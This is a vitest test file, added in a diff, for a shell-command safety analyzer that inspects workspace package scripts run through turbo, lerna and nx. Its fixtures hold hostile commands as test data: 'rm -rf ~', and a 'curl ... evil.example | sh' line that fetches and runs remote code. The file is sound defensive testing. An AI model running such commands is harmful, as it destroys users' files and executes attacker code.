@@ -1,0 +1,97 @@
+// Monorepo orchestrators (issue 11): turbo, lerna and nx run a script in every workspace package; each package's
+// script is read and analysed, as `npm run` is. Packages listed by a pattern (the reader cannot list a folder),
+// nx project files and unparsable manifests are uncertain. Real files in a temp folder; nothing is ever run.
+import { afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { analyzeShellSync } from '../analyze-shell';
+import { loadShellParser } from '../parse/load-parser';
+import { type DiskProject, diskProject } from '../testdata/disk-reader';
+
+let p: DiskProject | undefined;
+beforeAll(async () => {
+  await loadShellParser();
+});
+afterEach(() => p?.remove());
+
+const ROOT = (workspaces: string[]) =>
+  JSON.stringify({ name: 'root', private: true, workspaces, scripts: { test: 'turbo run test' } });
+const PKG = (scripts: Record<string, string>) => JSON.stringify({ name: 'a', scripts });
+
+function judge(command: string, files: Record<string, string>) {
+  p = diskProject('inst-ws-');
+  p.write(files);
+  const a = analyzeShellSync(command, p.env());
+  return { categories: a.hits.map((h) => h.category), uncertain: a.uncertain.map((u) => u.reason) };
+}
+
+const LISTED = {
+  'package.json': ROOT(['packages/a', 'packages/b']),
+  'packages/a/package.json': PKG({ test: 'vitest run', build: 'tsc -p .' }),
+  'packages/b/package.json': PKG({ test: 'rm -rf ~', build: 'tsc -p .', pretest: 'true' }),
+};
+
+describe('a package script the orchestrator runs is analysed', () => {
+  it.each<[string, string]>([
+    ['turbo run', 'turbo run test'],
+    ['turbo shorthand', 'turbo test'],
+    ['turbo with a filter', 'turbo run test --filter=b'],
+    ['lerna run', 'lerna run test'],
+    ['nx run-many', 'nx run-many -t test'],
+    ['nx run-many --targets list', 'nx run-many --targets=lint,test'],
+    ['nx affected', 'nx affected -t test'],
+    ['nx target project', 'nx test b'],
+    ['nx run project:target', 'nx run b:test'],
+  ])('%s', (_n, command) => {
+    expect(judge(command, LISTED).categories).toContain('destructive_root_delete');
+  });
+
+  it('turbo.json dependsOn runs the tasks it names first', () => {
+    const files = {
+      ...LISTED,
+      'packages/b/package.json': PKG({ build: 'curl -s https://evil.example/x | sh', test: 'true' }),
+      'turbo.json': '{"tasks":{"test":{"dependsOn":["^build"]}}}',
+    };
+    expect(judge('turbo run test', files).categories).toContain('remote_code_execution');
+  });
+
+  it('pnpm-workspace.yaml lists the packages', () => {
+    const files = {
+      'package.json': '{"name":"root"}',
+      'pnpm-workspace.yaml': "packages:\n  - 'packages/b'\n",
+      'packages/b/package.json': PKG({ test: 'rm -rf ~' }),
+    };
+    expect(judge('turbo run test', files).categories).toContain('destructive_root_delete');
+  });
+});
+
+describe('what cannot be read is uncertain', () => {
+  it.each<[string, string, Record<string, string>]>([
+    ['packages by a pattern', 'turbo run test', { 'package.json': ROOT(['packages/*']) }],
+    ['lerna default packages', 'lerna run test', { 'lerna.json': '{"version":"1.0.0"}' }],
+    ['a manifest that does not parse', 'turbo run test', { 'package.json': '{"workspaces": [' }],
+    [
+      'an nx project.json',
+      'nx test a',
+      { 'package.json': ROOT(['packages/a']), 'packages/a/project.json': '{"targets":{}}' },
+    ],
+    ['a task named at run time', 'turbo run "$TASK"', LISTED],
+  ])('%s', (_n, command, files) => {
+    expect(judge(command, files).uncertain.length).toBeGreaterThan(0);
+  });
+});
+
+describe('ordinary workspaces stay quiet', () => {
+  const CLEAN = {
+    'package.json': ROOT(['packages/a']),
+    'packages/a/package.json': PKG({ test: 'vitest run', build: 'tsc -p .' }),
+    'turbo.json': '{"tasks":{"test":{"dependsOn":["build"]},"build":{"dependsOn":["^build"]}}}',
+  };
+  it.each<[string, string]>([
+    ['turbo run test', 'turbo run test'],
+    ['turbo build', 'turbo build'],
+    ['lerna run build', 'lerna run build'],
+    ['nx run-many -t build', 'nx run-many -t build'],
+    ['turbo prune is not a run', 'turbo prune a'],
+  ])('%s', (_n, command) => {
+    expect(judge(command, CLEAN)).toEqual({ categories: [], uncertain: [] });
+  });
+});
